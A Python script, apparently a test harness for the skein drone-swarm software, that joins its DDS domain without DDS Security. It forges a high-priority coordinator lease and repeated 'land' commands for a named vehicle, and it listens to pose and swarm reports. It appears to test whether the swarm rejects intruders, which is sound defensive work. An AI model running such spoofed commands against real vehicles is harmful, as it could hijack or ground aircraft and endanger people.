"""An intruder on the swarm's DDS domain: a CycloneDDS participant (PyPI `cyclonedds`)
without DDS Security, types written here from skein_msgs' .msg files alone, that forges
what the active coordinator sends and listens to what the swarm says.

Usage: dds_intruder.py --domain D --vehicle uav-1 --epoch E [--seconds 6] [--loopback]

Takes the coordinator role the way a rogue coordinator would: for --seconds, every 100 ms,
- on rt/skein/coordinator, a skein_msgs CoordinatorLease of a coordinator `intruder`,
  active, of priority 99 in epoch `--epoch` + 100 (`--epoch`: the swarm's current one),
  which outbids the swarm's coordinator;
- on rt/skein/swarm/command, a skein_msgs SwarmMessage from `intruder` in that epoch
  telling `--vehicle` to land (the body a skein_swarm::protocol ToVehicle command, as
  skein serialises it): an agent that follows the lease lands the vehicle;
and meanwhile reads rt/skein/<vehicle>/pose and rt/skein/swarm/report.

Prints one JSON line: `published` (samples written per topic), `matched` (the readers
each writer matched: skein's, when the domain lets this participant in) and `read`
(samples taken per topic). Exits 0; the caller judges what it saw.
"""

import argparse
import json
import math
import time
from dataclasses import dataclass

from cyclonedds.core import Policy, Qos
from cyclonedds.domain import DomainParticipant
from cyclonedds.idl import IdlStruct
from cyclonedds.idl.types import float64, uint32, uint64
from cyclonedds.pub import DataWriter
from cyclonedds.sub import DataReader
from cyclonedds.topic import Topic
from cyclonedds.util import duration

from cyclone_ros import XCDR1, Header, Time, use_loopback
from dds_peer import PoseStamped


@dataclass
class SwarmMessage(IdlStruct, typename="skein_msgs::msg::dds_::SwarmMessage_"):
    header: Header
    vehicle_id: str
    sender_id: str
    epoch: uint64
    origin_lat_deg: float64
    origin_lon_deg: float64
    origin_alt_m: float64
    body: str


@dataclass
class CoordinatorLease(IdlStruct, typename="skein_msgs::msg::dds_::CoordinatorLease_"):
    header: Header
    coordinator_id: str
    priority: uint32
    epoch: uint64
    active: bool
    api_url: str


def now():
    t = time.time()
    return Time(sec=int(t), nanosec=int((t % 1) * 1e9))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--domain", type=int, required=True)
    ap.add_argument("--vehicle", required=True)
    ap.add_argument("--epoch", type=int, required=True)
    ap.add_argument("--seconds", type=float, default=6.0)
    ap.add_argument("--loopback", action="store_true")
    args = ap.parse_args()
    if args.loopback:
        use_loopback()
    ros = args.vehicle.replace("-", "_")

    dp = DomainParticipant(args.domain)
    # The QoS skein writes and reads them with (skein_dds::topics).
    best_effort = Qos(Policy.Reliability.BestEffort, Policy.History.KeepLast(64), XCDR1)
    reliable = Qos(
        Policy.Reliability.Reliable(duration(milliseconds=100)),
        Policy.History.KeepLast(64),
        XCDR1,
    )
    writers = {
        "command": DataWriter(
            dp, Topic(dp, "rt/skein/swarm/command", SwarmMessage), qos=reliable
        ),
        "lease": DataWriter(
            dp, Topic(dp, "rt/skein/coordinator", CoordinatorLease), qos=best_effort
        ),
    }
    readers = {
        "pose": DataReader(
            dp, Topic(dp, f"rt/skein/{ros}/pose", PoseStamped), qos=best_effort
        ),
        "report": DataReader(
            dp, Topic(dp, "rt/skein/swarm/report", SwarmMessage), qos=best_effort
        ),
    }
    land = json.dumps(
        {"type": "command", "command_id": 4242, "command": {"command": "land"}}
    )
    published = {k: 0 for k in writers}
    matched = {k: 0 for k in writers}
    read = {k: 0 for k in readers}
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        writers["lease"].write(
            CoordinatorLease(
                header=Header(stamp=now(), frame_id=""),
                coordinator_id="intruder",
                priority=99,
                epoch=args.epoch + 100,
                active=True,
                api_url="http://127.0.0.1:9",
            )
        )
        writers["command"].write(
            SwarmMessage(
                header=Header(stamp=now(), frame_id="skein_swarm"),
                vehicle_id=args.vehicle,
                sender_id="intruder",
                epoch=args.epoch + 100,
                origin_lat_deg=math.nan,
                origin_lon_deg=math.nan,
                origin_alt_m=math.nan,
                body=land,
            )
        )
        for k in writers:
            published[k] += 1
            matched[k] = max(matched[k], len(writers[k].get_matched_subscriptions()))
        for k, r in readers.items():
            read[k] += len(r.take(N=256))
        time.sleep(0.1)
    print(json.dumps({"published": published, "matched": matched, "read": read}), flush=True)


if __name__ == "__main__":
    main()
